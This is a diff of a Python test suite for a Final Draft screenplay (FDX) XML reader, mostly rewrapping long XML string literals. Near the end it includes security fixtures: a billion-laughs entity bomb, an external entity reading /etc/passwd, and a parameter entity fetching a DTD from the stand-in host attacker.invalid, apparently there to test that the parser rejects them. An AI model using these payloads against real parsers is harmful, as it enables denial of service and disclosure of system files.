@@ -102,7 +102,8 @@ def test_text_runs_are_joined_without_their_styles_and_line_breaks_kept():
     body = (
         '<Paragraph Type="Action"><Text>John enters, </Text><Text Style="Italic">soaked</Text>'
         '<Text>. He drops his </Text><Text Style="Bold+Underline">keys</Text><Text>.\nThen:</Text>'
-        "<ScriptNote><Paragraph><Text>A note, not script.</Text></Paragraph></ScriptNote></Paragraph>"
+        "<ScriptNote><Paragraph><Text>A note, not script.</Text></Paragraph></ScriptNote>"
+        "</Paragraph>"
     )
     assert read_fdx(fdx(body)).elements == [
         Element(Kind.ACTION, "John enters, soaked. He drops his keys.\nThen:")
@@ -115,7 +116,8 @@ def test_all_caps_styles_are_applied_as_final_draft_shows_them():
         '<ParagraphSpec Alignment="Left" StartsNewPage="No"/></ElementSettings>'
     )
     body = para("Scene Heading", "int. kitchen - night") + (
-        '<Paragraph Type="Action"><Text>He says </Text><Text Style="AllCaps">hello</Text></Paragraph>'
+        '<Paragraph Type="Action"><Text>He says </Text>'
+        '<Text Style="AllCaps">hello</Text></Paragraph>'
     )
     assert rows(read_fdx(fdx(body, extra=settings_xml)).elements) == [
         (Kind.SCENE_HEADING, "INT. KITCHEN - NIGHT", None, False),
@@ -179,7 +181,8 @@ def test_centre_aligned_action_is_centred_text():
     [
         para("Scene Heading", "OMITTED", Number="7"),
         para("Scene Heading", "omitted.", Number="7"),
-        '<Paragraph Type="Scene Heading" Number="7" Omitted="Yes"><Text>INT. GONE - DAY</Text></Paragraph>',
+        '<Paragraph Type="Scene Heading" Number="7" Omitted="Yes">'
+        "<Text>INT. GONE - DAY</Text></Paragraph>",
         '<Paragraph Type="Scene Heading" Number="7"><SceneProperties Omitted="Yes"/></Paragraph>',
     ],
 )
@@ -195,7 +198,8 @@ def test_an_omitted_scene_is_a_heading_reading_omitted_with_its_number(heading):
 
 def test_a_scene_summary_becomes_its_synopsis():
     heading = (
-        '<Paragraph Type="Scene Heading" Number="1"><SceneProperties Length="3/8" Page="1" Title="">'
+        '<Paragraph Type="Scene Heading" Number="1">'
+        '<SceneProperties Length="3/8" Page="1" Title="">'
         "<Summary><Paragraph><Text>Bob meets Mary.</Text></Paragraph></Summary></SceneProperties>"
         "<Text>INT. CAFE - DAY</Text></Paragraph>"
     )
@@ -208,7 +212,8 @@ def test_a_scene_summary_becomes_its_synopsis():
 
 def test_hidden_outline_elements_are_structure_and_empty_paragraphs_are_skipped():
     settings_xml = "".join(
-        f'<ElementSettings Type="{kind}"><FontSpec Style="Italic+HiddenText"/><ParagraphSpec/></ElementSettings>'
+        f'<ElementSettings Type="{kind}"><FontSpec Style="Italic+HiddenText"/>'
+        "<ParagraphSpec/></ElementSettings>"
         for kind in ("Outline 1", "Outline Body", "Secret")
     )
     body = (
@@ -265,11 +270,13 @@ BILLION_LAUGHS = b"""<?xml version="1.0"?>
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
 ]>
-<FinalDraft><Content><Paragraph Type="Action"><Text>&lol9;</Text></Paragraph></Content></FinalDraft>"""
+<FinalDraft><Content><Paragraph Type="Action"><Text>&lol9;</Text></Paragraph></Content>\
+</FinalDraft>"""
 
 EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
 <!DOCTYPE FinalDraft [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
-<FinalDraft><Content><Paragraph Type="Action"><Text>&xxe;</Text></Paragraph></Content></FinalDraft>"""
+<FinalDraft><Content><Paragraph Type="Action"><Text>&xxe;</Text></Paragraph></Content>\
+</FinalDraft>"""
 
 EXTERNAL_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
 <!DOCTYPE FinalDraft [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
